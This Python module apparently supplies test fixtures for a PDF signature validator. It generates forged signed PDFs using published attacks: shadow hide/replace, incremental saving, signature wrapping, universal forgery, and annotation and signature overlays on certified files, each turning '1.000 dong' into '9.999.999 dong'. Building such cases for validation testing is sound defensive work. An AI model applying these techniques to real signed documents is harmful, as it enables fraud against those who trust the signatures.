"""The published attacks on signed PDFs, each a function that gives attacked files, {variant: PDF}.

Shadow attacks: Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in Signed PDFs"
(NDSS 2021). USF, ISA, SWA: Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019). EAA, SSA: Rohlmann et al.,
"Breaking the Specification: PDF Certification" (S&P 2021). Everything is built from plain files of signed.py,
by hand, because writers of libraries refuse to write some of it.
"""

from __future__ import annotations

import io
import re
from functools import cache

from pyhanko.pdf_utils import generic, text
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import MDPPerm
from pyhanko.stamp import TextStampStyle

from tests.documents.signed import AT, plain_pdf, signed, stranger, stream, table

Attacked = dict[str, bytes]
FALSE = b"BT /F1 24 Tf 72 700 Td (Tra 9.999.999 dong) Tj ET"
PLACE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\s*\]")
FORM = b"<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Length 60 >>\nstream\n"


def start_of(pdf: bytes) -> int:
    """Where the last cross-reference table begins."""
    return int(pdf.rpartition(b"startxref\n")[2].split()[0])


def root_of(pdf: bytes) -> bytes:
    return re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]


def size_of(pdf: bytes) -> int:
    return max(int(one) for one in re.findall(rb"/Size (\d+)", pdf))


def body_of(pdf: bytes, number: int) -> bytes:
    """The newest body of an object."""
    return re.findall(rb"(?<!\d)%d 0 obj\s*(.*?)\s*endobj" % number, pdf, re.DOTALL)[-1]


def place_of(pdf: bytes, number: int, which: int = -1) -> int:
    return [one.start() for one in re.finditer(rb"(?<!\d)%d 0 obj" % number, pdf)][which]


def added(
    pdf: bytes, objects: dict[int, bytes], *, elsewhere: dict[int, int] | None = None, xref: bool = True
) -> bytes:
    """An incremental update: new bodies for objects; `elsewhere`: objects that now lie there (-1: freed)."""
    out, places = pdf, dict(elsewhere or {})
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not xref:
        return out
    ids = re.findall(rb"/ID \[.*?\]", pdf, re.DOTALL)[-1]
    trailer = b"/Root %s /Prev %d %s" % (root_of(pdf), start_of(pdf), ids)
    return out + table(places, len(out), trailer=trailer, size=size_of(pdf), free=False)


def page_added(pdf: bytes) -> bytes:
    """An update that adds a page, as in "one more condition" stapled to a contract."""
    number = size_of(pdf) + 1
    kids = _put(body_of(pdf, 2), rb"/Kids\s*\[", b"/Kids [%d 0 R " % number).replace(b"/Count 1", b"/Count 2")
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>"
    return added(pdf, {2: kids, number: page})


def _put(body: bytes, old: bytes, new: bytes) -> bytes:
    changed, count = re.subn(old, new, body, count=1)
    assert count, f"{old!r} is not in {body!r}"
    return changed


def byte_changed(pdf: bytes) -> bytes:
    place = pdf.index(b"1.000.000")
    return pdf[:place] + b"9" + pdf[place + 1 :]


# Shadow attacks: the file is prepared before it is signed.


@cache
def _covered() -> bytes:
    """A harmless picture (20) lies over what will be shown later (4)."""
    cover = b"1 1 1 rg 0 600 595 200 re f 0 g BT /F1 24 Tf 72 650 Td (Tra 1.000 dong) Tj ET"
    form = stream(
        cover, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>"
    )
    pdf = plain_pdf("Tra 9.999.999 dong", {8: stream(b"/Cover Do"), 20: form})
    pdf = _rebuilt(pdf, b"/Contents 4 0 R", b"/Contents [4 0 R 8 0 R]")
    return signed(
        _rebuilt(
            pdf, b"/Font << /F1 5 0 R >> >> >>", b"/Font << /F1 5 0 R >> /XObject << /Cover 20 0 R >> >> >>"
        )
    )


def _rebuilt(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """Text replaced and the table of places made anew."""
    assert old in pdf
    body = pdf[: start_of(pdf)].replace(old, new, 1)
    places = {int(one[1]): one.start() for one in re.finditer(rb"(?m)^(\d+) 0 obj", body)}
    tail = re.findall(rb"/Root .*?\]", pdf)[-1]
    return body + table(places, len(body), trailer=tail)


def shadow_hide() -> Attacked:
    pdf = _covered()
    page = body_of(pdf, 3)
    return {
        "the cover is freed": added(pdf, {}, elsewhere={20: -1}),
        "the cover becomes empty": added(pdf, {20: FORM + b" " * 60 + b"\nendstream"}),
        "the page no longer names the cover": added(
            pdf, {3: _put(page, rb"\[\s*4 0 R\s+8 0 R\s*\]", b"[4 0 R]")}
        ),
        "the drawing of the cover is cut": added(pdf, {8: stream(b"")}),
        "the cover becomes another kind of object": added(pdf, {20: b"null"}),
    }


@cache
def _with_field() -> bytes:
    """A text field shows a sum; forms may be filled after signing, in other viewers' eyes."""
    shown = stream(b"BT /F1 18 Tf (1.000 dong) Tj ET", b"/Type /XObject /Subtype /Form /BBox [0 0 200 30]")
    pdf = plain_pdf(more={
        10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Tien) /V (1.000 dong) /DA (/F1 18 Tf) /F 4 "
        b"/Rect [72 600 272 630] /P 3 0 R /AP << /N 11 0 R >> >>",
        11: shown,
    }, page=b"/Annots [10 0 R]")  # fmt: skip
    pdf = _rebuilt(pdf, b"/Type /Catalog", b"/Type /Catalog /AcroForm << /Fields [10 0 R] /DA (/F1 12 Tf) >>")
    return signed(pdf)


def shadow_replace() -> Attacked:
    """What is shown is exchanged for something a viewer thinks harmless: a font, a field's look."""
    pdf, field = signed(), _with_field()
    other = stream(
        b"BT /F1 18 Tf (9.999.999 dong) Tj ET", b"/Type /XObject /Subtype /Form /BBox [0 0 200 30]"
    )
    filled = body_of(field, 10).replace(b"1.000 dong", b"9.999.999 dong")
    glyphs = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Differences [49 /nine] >> >>"
    return {
        "the font draws other figures": added(pdf, {5: glyphs}),
        "the font is another one": added(pdf, {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>"}),
        "the field is filled anew": added(field, {10: filled, 11: other}),
        "only the look of the field": added(field, {11: other}),
    }


@cache
def _with_both() -> bytes:
    """Two bodies of the same object lie in the signed file; the table names the harmless one."""
    pdf = plain_pdf()
    cut, hidden = start_of(pdf), b"4 0 obj\n%s\nendobj\n" % stream(FALSE)
    body = pdf[: place_of(pdf, 4)] + hidden + pdf[place_of(pdf, 4) : cut]
    places = {int(one[1]): one.start() for one in re.finditer(rb"(?m)^(\d+) 0 obj", body)}
    return signed(body + table(places, len(body), trailer=re.findall(rb"/Root .*?\]", pdf)[-1]))


def shadow_hide_and_replace() -> Attacked:
    pdf = _with_both()
    first = place_of(pdf, 4, 0)
    other = {
        40: b"<< /Type /Pages /Kids [41 0 R] /Count 1 >>",
        41: b"<< /Type /Page /Parent 40 0 R /MediaBox [0 0 595 842] /Contents 42 0 R /Resources << >> >>",
        42: stream(FALSE),
    }
    with_pages = signed(plain_pdf(more=other))
    return {
        "only a new table": added(pdf, {}, elsewhere={4: first}),
        "only a new table, and the old body freed first": added(
            added(pdf, {}, elsewhere={4: -1}), {}, elsewhere={4: first}
        ),
        "another tree of pages": added(with_pages, {1: _with_root(with_pages)}),
    }


def _with_root(pdf: bytes) -> bytes:
    return _put(body_of(pdf, 1), rb"/Pages\s+2 0 R", b"/Pages 40 0 R")


# Incremental saving: things are added after the signature.


def incremental() -> Attacked:
    pdf = signed()
    changed = {4: stream(FALSE)}
    annotation = (
        b"<< /Type /Annot /Subtype /FreeText /Rect [72 690 400 720] /Contents (9.999.999) /DA (/F1 24 Tf) >>"
    )
    with_note = _put(body_of(pdf, 3), rb"/Annots\s*\[", b"/Annots [50 0 R ")
    action = rb"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.beep) >>"
    script = _put(body_of(pdf, 1), rb"/Type\s*/Catalog", action)
    return {
        "new content of the page": added(pdf, changed),
        "without a table": added(pdf, changed, xref=False),
        "without a table, with an end": added(pdf, changed, xref=False) + b"%%EOF\n",
        "with a copy of the signature": added(pdf, {**changed, **_copied(pdf)}),
        "another page": page_added(pdf),
        "a note on the page": added(pdf, {50: annotation, 3: with_note}),
        "a script when it is opened": added(pdf, {1: script}),
        "two updates, the second harmless": added(added(pdf, changed), {60: b"null"}),
        "a broken table": added(pdf, changed).replace(b"0000000000 65535", b"000000000x 65535"),
        "signatures taken out": added(pdf, {**changed, 1: b"<< /Type /Catalog /Pages 2 0 R >>"}),
    }


def _copied(pdf: bytes) -> dict[int, bytes]:
    """The signature once more under another number, as ISA does to please viewers that look for one."""
    place = pdf.index(b"/ByteRange")
    return {90: pdf[pdf.rindex(b" 0 obj", 0, place) + 6 : pdf.index(b"endobj", place)].strip()}


# Signature wrapping: the second signed part moves, something else takes its place.


def wrapping() -> Attacked:
    pdf = signed()
    found = PLACE.search(pdf)
    assert found
    end_first, start_second, length = int(found[2]), int(found[3]), int(found[4])
    first, gap, second = pdf[:end_first], pdf[end_first:start_second], pdf[start_second:]
    short = gap.rstrip(b"0>")
    short += b"0" * (len(short) % 2 == 0) + b">"
    made = {}
    for name, key in (("the new range first", b"/ByteRange "), ("the new range escaped", b"/Byte#52ange ")):
        room = 6000
        moved = end_first + len(short) + room
        wrapped = short + b" " + key + b"[0 %d %d %d]" % (end_first, moved, length) + b" >>\nendobj\n"
        wrapped += _elsewhere(pdf, end_first + len(wrapped))
        made[name] = first + wrapped.ljust(len(short) + room) + second
    made["the place of the table is taken"] = _over_the_table(pdf, first, short, second, length)
    grown = gap[:-1] + b"00" * 2000 + b">"
    made["more room in the signature"] = first + grown + second
    return made


def _elsewhere(pdf: bytes, start: int) -> bytes:
    """A new body of the content with its own table, to lie at `start`."""
    body = b"4 0 obj\n%s\nendobj\n" % stream(FALSE)
    trailer = b"/Root %s /Prev %d" % (root_of(pdf), start_of(pdf))
    return body + table({4: start}, start + len(body), trailer=trailer, size=size_of(pdf), free=False)


def _over_the_table(pdf: bytes, first: bytes, short: bytes, second: bytes, length: int) -> bytes:
    """The old number after "startxref" is true again: a table of ours lies there now."""
    old, begin = start_of(pdf), len(first)
    moved = old + 4000
    wrapped = short + b" /ByteRange [0 %d %d %d] >>\nendobj\n" % (begin, moved, length)
    body = b"4 0 obj\n%s\nendobj\n" % stream(FALSE)
    place = begin + len(wrapped)
    wrapped = (wrapped + body).ljust(max(old - begin, len(wrapped + body)))
    previous = int(re.findall(rb"/Prev (\d+)", pdf)[-1])
    trailer = b"/Root %s /Prev %d" % (root_of(pdf), previous)
    wrapped += table({4: place}, old, trailer=trailer, size=size_of(pdf), free=False)
    return first + wrapped.ljust(moved - begin) + second


# Universal forgery: the signature itself says nothing any more.


def forgery() -> Attacked:
    pdf = byte_changed(signed())
    found, contents = PLACE.search(pdf), re.search(rb"/Contents (<[0-9a-fA-F]+>)", pdf)
    assert found
    assert contents

    def put(old: bytes, new: bytes) -> bytes:
        return pdf.replace(old, new.ljust(len(old)))

    return {
        "no range": put(found[0], b""),
        "an empty range": put(found[0], b"/ByteRange []"),
        "a range of null": put(found[0], b"/ByteRange null"),
        "a range of nothing": put(found[0], b"/ByteRange [0 0 0 0]"),
        "a negative range": put(found[0], b"/ByteRange [0 -1 -1 -1]"),
        "a range of another kind": put(found[0], b"/ByteRange (0 1 2 3)"),
        "no contents": put(contents[0], b""),
        "empty contents": put(contents[0], b"/Contents <>"),
        "contents of null": put(contents[0], b"/Contents null"),
        "contents of zeros": put(contents[0], b"/Contents <" + b"0" * (len(contents[1]) - 2) + b">"),
        "no filter": put(b"/SubFilter /ETSI.CAdES.detached", b""),
        "another filter": put(b"/SubFilter /ETSI.CAdES.detached", b"/SubFilter /X"),
        "no type": put(b"/Type /Sig\n", b"/Type /Xyz").replace(b"/Type /Sig ", b"/Type /Xyz "),
    }


# Attacks on certification: what is allowed afterwards is used to draw something else.


def certified_and_noted() -> Attacked:
    """EAA: a note, a stamp or a picture over the text of a document certified with notes allowed (P 3)."""
    made = {}
    for name, kind in (("free text", "/FreeText"), ("a stamp", "/Stamp"), ("a redaction", "/Redact")):
        writer = IncrementalPdfFileWriter(io.BytesIO(signed(certify=MDPPerm.ANNOTATE)))
        shown = generic.StreamObject(stream_data=b"1 1 1 rg 0 0 400 60 re f")
        shown.update({
            generic.NameObject("/Type"): generic.NameObject("/XObject"),
            generic.NameObject("/Subtype"): generic.NameObject("/Form"),
            generic.NameObject("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 400, 60))),
        })  # fmt: skip
        note = generic.DictionaryObject({
            generic.NameObject("/Type"): generic.NameObject("/Annot"),
            generic.NameObject("/Subtype"): generic.NameObject(kind),
            generic.NameObject("/Rect"): generic.ArrayObject(map(generic.NumberObject, (72, 690, 472, 750))),
            generic.NameObject("/Contents"): generic.TextStringObject("9.999.999"),
            generic.NameObject("/AP"): generic.DictionaryObject(
                {generic.NameObject("/N"): writer.add_object(shown)}
            ),
        })  # fmt: skip
        writer.register_annotation(writer.root["/Pages"]["/Kids"].raw_get(0), writer.add_object(note))
        out = io.BytesIO()
        writer.write(out)
        made[name] = out.getvalue()
    return made


def certified_and_signed() -> Attacked:
    """SSA: somebody adds a signature of their own whose look covers the text."""
    style = TextStampStyle(
        stamp_text="9.999.999 dong", border_width=0, text_box_style=text.TextBoxStyle(font_size=24)
    )
    made = {}
    for name, certify in (("certified", MDPPerm.FILL_FORMS), ("only signed", None)):
        pdf = signed(certify=certify)
        more = {"field": "La", "box": (60, 690, 460, 740), "style": style, "at": AT}
        made[f"{name}, by a stranger"] = signed(pdf, stranger(), stamped=False, **more)  # type: ignore[arg-type]
        made[f"{name}, then broken"] = _spoilt(signed(pdf, **more))  # type: ignore[arg-type]
    return made


def _spoilt(pdf: bytes) -> bytes:
    """The last signature's value replaced by zeros."""
    last = list(re.finditer(rb"/Contents <([0-9a-fA-F]+)>", pdf))[-1]
    return pdf[: last.start(1)] + b"0" * len(last[1]) + pdf[last.end(1) :]


ATTACKS = {
    "shadow: hide": shadow_hide,
    "shadow: replace": shadow_replace,
    "shadow: hide and replace": shadow_hide_and_replace,
    "incremental saving": incremental,
    "signature wrapping": wrapping,
    "universal forgery": forgery,
    "evil annotation": certified_and_noted,
    "sneaky signature": certified_and_signed,
}
